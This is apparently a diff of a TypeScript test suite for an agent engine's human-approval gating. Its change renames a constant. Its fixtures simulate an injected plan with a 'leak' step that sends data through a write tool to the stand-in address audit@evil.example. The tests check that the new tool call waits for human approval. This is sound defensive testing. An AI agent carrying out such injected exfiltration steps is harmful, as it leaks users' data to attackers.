@@ -101,13 +101,13 @@ test('a step id of a plan before the earlier one is not used for another call', 
 
 const injected = [aPlan([['a', 'find']]), aPlan([['leak', 'put', { to: 'audit@evil.example' }]])];
 /** The recipient is named, so that only the tool is new. */
-const context = 'audit@evil.example';
+const CONTEXT = 'audit@evil.example';
 
 test.each(['approve', 'deny'] as const)(
   'a write tool that the plan before did not name waits for a human, whatever the strategy: %s',
   async (decision) => {
     script.plans = [...injected];
-    const run = await untilWaiting(engine, aRun({ context, approvalStrategy: 'NONE' }));
+    const run = await untilWaiting(engine, aRun({ context: CONTEXT, approvalStrategy: 'NONE' }));
     expect(run.waitingOn).toMatchObject([
       { kind: 'call', text: expect.stringContaining('The plan before did not name this') },
     ]);
@@ -122,7 +122,7 @@ test.each(['approve', 'deny'] as const)(
 test('an approval rule that fits answers for a new write tool', async () => {
   allowed = true;
   script.plans = [...injected];
-  expect([(await finish(engine, aRun({ context }))).run.status, service.calls('put')]).toEqual(['SUCCESS', 1]);
+  expect([(await finish(engine, aRun({ context: CONTEXT }))).run.status, service.calls('put')]).toEqual(['SUCCESS', 1]);
 });
 
 test('a write tool that the first plan named needs no human; the approval of a whole new plan is enough for others', async () => {
@@ -133,7 +133,7 @@ test('a write tool that the first plan named needs no human; the approval of a w
   script.plans = [named, aPlan([['c', 'put', { n: 2 }]])];
   expect([(await finish(engine, aRun())).run.status, service.calls('put')]).toEqual(['SUCCESS', 1]);
   script.plans = [...injected];
-  const first = await untilWaiting(engine, aRun({ context, approvalStrategy: 'ON_START' }));
+  const first = await untilWaiting(engine, aRun({ context: CONTEXT, approvalStrategy: 'ON_START' }));
   const approve = (run: typeof first) =>
     engine.decideApproval(run.workspaceId, { approvalId: run.waitingOn[0]!.approvalId!, decision: 'approve' }, by);
   await approve(first);
